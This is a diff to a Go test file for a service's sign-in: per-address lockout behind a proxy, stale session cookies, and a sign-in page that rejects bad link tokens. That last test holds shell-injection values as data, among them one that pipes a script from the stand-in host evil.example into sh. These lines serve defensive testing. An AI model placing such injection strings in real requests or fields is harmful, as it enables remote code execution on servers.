@@ -101,20 +101,58 @@ func TestAcceptCookieOrigin(t *testing.T) {
 	}
 }
 
-// TestAcceptLockOut refuses the eleventh guess at a password, and the right one
-// after it, without saying which it was.
+// TestAcceptLockOut has a network wait after ten guesses at a password, and no
+// other: the owner signs in from elsewhere.
 func TestAcceptLockOut(t *testing.T) {
-	in := start(t)
+	in := start(t, func(c *daemon.Config) { c.BehindProxy = true })
 	in.session(t, in.A)
+	try := func(address, password string) answer {
+		return in.ask(t, "auth.login", "", `{"email":"a@example.test","password":"`+password+`"}`, "X-Forwarded-For", address)
+	}
 	for i := range 10 {
-		if a := in.ask(t, "auth.login", "", `{"email":"a@example.test","password":"guess"}`); a.StatusCode != 401 {
+		if a := try("198.51.100.7", "guess"); a.StatusCode != 401 {
 			t.Fatalf("guess %d: %s", i, a.Status)
 		}
 	}
-	for _, password := range []string{"guess", "correct horse battery"} {
-		a := in.ask(t, "auth.login", "", `{"email":"a@example.test","password":"`+password+`"}`)
-		if a.StatusCode != 429 || a.Header.Get("Retry-After") == "" {
-			t.Errorf("%s: %s %s", password, a.Status, a.Body)
+	if a := try("203.0.113.5", "correct horse battery"); a.StatusCode != 200 {
+		t.Errorf("from elsewhere: %s %s", a.Status, a.Body)
+	}
+	for range 12 { // twice as long each time: no machine is so slow that it does not wait in the end
+		if a := try("198.51.100.8", "guess"); a.StatusCode == 429 && a.Header.Get("Retry-After") != "" {
+			return
+		}
+	}
+	t.Error("the network does not wait")
+}
+
+// TestAcceptStaleCookie signs in with the cookie of a session that is over, which
+// counts as no guess.
+func TestAcceptStaleCookie(t *testing.T) {
+	in := start(t)
+	in.session(t, in.A)
+	for range 12 {
+		a := in.ask(t, "auth.login", "", `{"email":"a@example.test","password":"correct horse battery"}`, "Cookie", "svc_session=sess_over")
+		if a.StatusCode != 200 {
+			t.Fatalf("%s %s", a.Status, a.Body)
+		}
+	}
+	if a := in.send(t, "GET", v1+"/posts", "svc_mistyped", ""); a.StatusCode != 401 {
+		t.Errorf("the first wrong key: %s", a.Status)
+	}
+}
+
+// TestAcceptSignInPage shows a command with a link's token, and nothing else that
+// the address may hold.
+func TestAcceptSignInPage(t *testing.T) {
+	in := start(t)
+	token := strings.SplitAfter(in.A.SignInLink, "token=")[1]
+	if a := in.send(t, "GET", "/sign-in?token="+token+"&x=';id;'", "", ""); a.StatusCode != 200 || !strings.Contains(string(a.Body), "token="+token+"'</code>") {
+		t.Errorf("%s %s", a.Status, a.Body)
+	}
+	for _, bad := range []string{"x';curl${IFS}evil.example|sh;'", "", "a%0Ab", "a%27b", "$(id)", "a;b", strings.Repeat("a", 101)} {
+		a := in.send(t, "GET", "/sign-in?token="+bad, "", "")
+		if a.StatusCode != 400 || strings.Contains(string(a.Body), "svcctl") || bad != "" && strings.Contains(string(a.Body), bad) {
+			t.Errorf("%q: %s %s", bad, a.Status, a.Body)
 		}
 	}
 }
